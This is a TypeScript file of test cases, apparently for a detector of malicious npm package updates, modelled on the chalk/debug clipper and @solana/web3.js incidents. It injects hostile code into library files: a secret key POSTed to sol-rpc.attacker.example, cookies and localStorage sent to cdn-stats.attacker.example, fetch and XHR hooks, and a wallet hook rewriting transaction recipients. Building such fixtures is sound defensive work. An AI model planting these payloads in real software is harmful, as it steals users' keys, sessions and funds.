/**
 * Browser and wallet cases: crypto-clippers (chalk/debug 2025), key exfiltration inside an existing
 * function (@solana/web3.js 1.95.6), string-array payloads in minified bundles, wallet provider hooks.
 * Defanged: hosts are `*.example`, addresses TEST-NET.
 */
import type { EvalCase } from './case.js';
import { escapedTableBlock, libraryModule, minified, stringArrayBlock } from './code.js';

const HOOKS =
  "if(typeof window!=='undefined'){const f=window.fetch;window.fetch=function(){return f.apply(this,arguments)};" +
  'XMLHttpRequest.prototype.open=function(){};if(window.ethereum){window.ethereum.request=function(){}}}';
const CLIPPER_WORDS = [
  'fetch',
  'XMLHttpRequest',
  'ethereum',
  'request',
  'open',
  'send',
  '1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx',
  'TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67',
];

export function chalk(): EvalCase {
  const index = libraryModule('style', 30);
  return {
    id: 'chalk-clipper',
    incident: 'chalk/debug 2025: obfuscated crypto-clipper appended to a readable index.js',
    name: 'chalk',
    from: '5.6.0',
    to: '5.6.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': index },
    after: { 'index.js': `${index}${stringArrayBlock(CLIPPER_WORDS, HOOKS)}\n` },
    file: 'index.js',
  };
}

export function debug(): EvalCase {
  const common = libraryModule('fmt', 24);
  const words = Array.from({ length: 6 }, () => CLIPPER_WORDS).flat();
  return {
    id: 'debug-clipper',
    incident: 'debug 4.4.2: the clipper in a module the entry point requires, escaped table, no _0x names',
    name: 'debug',
    from: '4.4.1',
    to: '4.4.2',
    manifest: { main: 'src/index.js' },
    before: { 'src/index.js': "module.exports = require('./common.js');\n", 'src/common.js': common },
    after: { 'src/index.js': "module.exports = require('./common.js');\n", 'src/common.js': `${common}${escapedTableBlock(words, HOOKS)}\n` },
    file: 'src/common.js',
  };
}

export function solana(): EvalCase {
  const lib = [
    libraryModule('rpc', 10),
    'async function rpcRequest(url, body) {',
    '  return fetch(url, { method: "POST", body });',
    '}',
    'class Keypair {',
    '  constructor(secretKey) { this._secretKey = secretKey; }',
    '  static fromSecretKey(secretKey) {',
    '    const kp = new Keypair(secretKey);',
    '    return kp;',
    '  }',
    '}',
    'module.exports.Keypair = Keypair;',
    'module.exports.rpcRequest = rpcRequest;',
    '',
  ].join('\n');
  const evil = lib.replace(
    '    const kp = new Keypair(secretKey);',
    '    const kp = new Keypair(secretKey);\n    fetch("https://sol-rpc.attacker.example/api", { method: "POST", headers: { "x-amz-cf-id": Buffer.from(secretKey).toString("base64") } }).catch(() => {});',
  );
  return {
    id: 'solana-key-exfil',
    incident: '@solana/web3.js 1.95.6: the secret key sent from inside an existing function',
    name: '@solana/web3.js',
    from: '1.95.5',
    to: '1.95.6',
    manifest: { main: 'lib/index.cjs.js', browser: 'lib/index.browser.esm.js' },
    before: { 'lib/index.cjs.js': lib, 'lib/index.browser.esm.js': lib },
    after: { 'lib/index.cjs.js': lib, 'lib/index.browser.esm.js': evil },
    file: 'lib/index.browser.esm.js',
  };
}

export function minifiedObfuscated(): EvalCase {
  const bundle = minified(3, 400, 'var api=function(u){return fetch(u).then(function(r){return r.json()})};e.api=api');
  const block = stringArrayBlock(
    ['https://cdn-stats.attacker.example/c', 'cookie', 'localStorage', 'POST'],
    'setTimeout(function(){fetch(_0x2b7c(0),{method:_0x2b7c(3),body:document[_0x2b7c(1)]+JSON.stringify(window[_0x2b7c(2)])})},3e3);',
  );
  return {
    id: 'minified-string-array',
    incident: 'an obfuscated string-array payload inside a package that always shipped a minified bundle',
    name: 'tiny-charts',
    from: '3.9.1',
    to: '3.9.2',
    manifest: { main: 'dist/tiny-charts.min.js' },
    before: { 'dist/tiny-charts.min.js': bundle },
    after: { 'dist/tiny-charts.min.js': bundle.replace('}(this);', `;${block}}(this);`) },
    file: 'dist/tiny-charts.min.js',
  };
}

export function esmWalletHook(): EvalCase {
  const esm = libraryModule('fmt', 16)
    .replace("'use strict';\n", '')
    .replace(/module\.exports = \{([^}]*)\};/, 'export {$1};');
  const hook = [
    'if (typeof window !== "undefined" && window.ethereum) {',
    '  const send = window.ethereum.request.bind(window.ethereum);',
    '  window.ethereum.request = (args) => { if (args && args.method === "eth_sendTransaction") args.params[0].to = "0x00000000000000000000000000000000000dEaD0"; return send(args); };',
    '}',
    '',
  ].join('\n');
  return {
    id: 'esm-wallet-hook',
    incident: 'a browser wallet hook rewriting transaction recipients, added to the ESM build only',
    name: 'color-string-utils',
    from: '1.9.1',
    to: '1.9.2',
    manifest: { main: 'index.cjs', module: 'index.mjs' },
    before: { 'index.cjs': libraryModule('fmt', 16), 'index.mjs': esm },
    after: { 'index.cjs': libraryModule('fmt', 16), 'index.mjs': esm + hook },
    file: 'index.mjs',
  };
}
